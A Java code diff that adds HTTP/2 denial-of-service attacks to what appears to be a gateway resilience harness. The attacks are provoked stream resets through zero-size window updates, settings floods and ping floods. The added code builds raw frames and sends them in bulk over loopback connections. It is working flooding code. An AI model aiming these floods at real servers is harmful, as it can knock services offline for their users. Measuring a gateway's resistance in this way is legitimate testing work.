@@ -5,13 +5,17 @@ import java.io.IOException;
 import java.io.InputStream;
 import java.net.InetAddress;
 import java.net.Socket;
+import java.net.SocketTimeoutException;
 import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicInteger;
 import java.util.concurrent.atomic.AtomicLong;
 import java.util.function.BooleanSupplier;
+import java.util.function.Supplier;
+import java.util.stream.IntStream;
 
 /** An attack on a gateway. An attacker counts what it sends, until the gateway disconnects it or the measurement ends. */
 enum Attack {
@@ -52,11 +56,43 @@ enum Attack {
             }
             flood(port, flood.toByteArray(), done);
         }
+    },
+    /** Sends requests over HTTP/2 and makes the gateway reset each, by a window update of zero. */
+    PROVOKED_RESETS("HTTP/2 streams made to be reset", "streams") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException {
+            AtomicInteger round = new AtomicInteger();
+            floods(
+                    port,
+                    () -> over.getAsBoolean() || round.get() == PROVOKING.size(),
+                    done,
+                    FRAME_HEAD + 4,
+                    () -> PROVOKING.get(round.getAndIncrement()));
+        }
+    },
+    /** Sends settings over HTTP/2, each of which has to be acknowledged. */
+    SETTINGS_FLOOD("HTTP/2 settings without end", "frames") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException {
+            byte[] flood = repeated(frame(SETTINGS, 0, 0, new byte[0]));
+            floods(port, over, done, FRAME_HEAD, () -> flood);
+        }
+    },
+    /** Sends pings over HTTP/2, each of which has to be answered. */
+    PING_FLOOD("HTTP/2 pings without end", "frames") {
+        @Override
+        void once(int port, BooleanSupplier over, AtomicLong done) throws IOException {
+            byte[] flood = repeated(frame(PING, 0, 0, new byte[8]));
+            floods(port, over, done, FRAME_HEAD + 8, () -> flood);
+        }
     };
 
+    private static final int FRAME_HEAD = 9;
     private static final int HEADERS = 1;
     private static final int RST_STREAM = 3;
     private static final int SETTINGS = 4;
+    private static final int PING = 6;
+    private static final int WINDOW_UPDATE = 8;
     private static final int CONTINUATION = 9;
     private static final int END_STREAM = 1;
     private static final int END_HEADERS = 4;
@@ -65,6 +101,11 @@ enum Attack {
     private static final int EVERY_MILLIS = 10;
     private static final int TRICKLE_ROUNDS = 25;
     private static final int FLOOD = 1_000;
+    private static final int PATIENCE_MILLIS = 1_000;
+
+    /** What one connection sends in turn, prepared because the attackers share the machine with the gateway. */
+    private static final List<byte[]> PROVOKING =
+            IntStream.range(0, 50).mapToObj(Attack::provoking).toList();
 
     private final String name;
     private final String what;
@@ -81,6 +122,11 @@ enum Attack {
     /** Returns the unit of what the attacker counts. */
     String what() {
         return what;
+    }
+
+    /** Returns whether the attack needs HTTP/2. */
+    boolean isHttp2() {
+        return this != SLOW_HEADS && this != SLOW_BODIES;
     }
 
     /** Attacks once. Throws an exception when the gateway disconnects the attacker. */
@@ -118,13 +164,53 @@ enum Attack {
         }
     }
 
-    /** Sends all frames at once, which costs the attacker next to nothing, and then waits until it is disconnected. */
+    /** Sends frames again and again, each time when the gateway has answered those before, until it is disconnected. */
+    private static void floods(
+            int port, BooleanSupplier over, AtomicLong done, int answerBytes, Supplier<byte[]> frames)
+            throws IOException {
+        try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
+            socket.setSoTimeout(PATIENCE_MILLIS);
+            begin(socket);
+            while (!over.getAsBoolean()) {
+                socket.getOutputStream().write(frames.get());
+                done.addAndGet(FLOOD);
+                socket.getInputStream().skipNBytes((long) FLOOD * answerBytes);
+            }
+        } catch (SocketTimeoutException stillConnected) {
+            // Begins again.
+        }
+    }
+
+    private static byte[] provoking(int round) {
+        ByteArrayOutputStream flood = new ByteArrayOutputStream();
+        for (int i = 0; i < FLOOD; i++) {
+            int stream = 2 * (round * FLOOD + i) + 1;
+            flood.writeBytes(head(stream, END_HEADERS));
+            flood.writeBytes(frame(WINDOW_UPDATE, 0, stream, new byte[4]));
+        }
+        return flood.toByteArray();
+    }
+
+    private static byte[] repeated(byte[] frame) {
+        ByteArrayOutputStream flood = new ByteArrayOutputStream();
+        for (int i = 0; i < FLOOD; i++) {
+            flood.writeBytes(frame);
+        }
+        return flood.toByteArray();
+    }
+
+    private static void begin(Socket socket) throws IOException {
+        socket.getOutputStream()
+                .write(join(
+                        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
+                        frame(SETTINGS, 0, 0, new byte[0])));
+    }
+
+    /** Sends all frames at once, which costs the attacker next to nothing, and then waits a second to be disconnected. */
     private static void flood(int port, byte[] frames, AtomicLong done) throws IOException {
         try (Socket socket = new Socket(InetAddress.getLoopbackAddress(), port)) {
-            socket.getOutputStream()
-                    .write(join(
-                            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII),
-                            frame(SETTINGS, 0, 0, new byte[0])));
+            socket.setSoTimeout(PATIENCE_MILLIS);
+            begin(socket);
             socket.getOutputStream().write(frames);
             done.addAndGet(FLOOD);
             InputStream in = socket.getInputStream();
@@ -132,6 +218,8 @@ enum Attack {
             while (in.read(dropped) >= 0) {
                 // Ignores the answer.
             }
+        } catch (SocketTimeoutException stillConnected) {
+            return;
         }
         throw new IOException("disconnected");
     }
@@ -155,7 +243,7 @@ enum Attack {
     }
 
     private static byte[] frame(int type, int flags, int stream, byte[] payload) {
-        return ByteBuffer.allocate(9 + payload.length)
+        return ByteBuffer.allocate(FRAME_HEAD + payload.length)
                 .putInt(payload.length << 8 | type)
                 .put((byte) flags)
                 .putInt(stream)
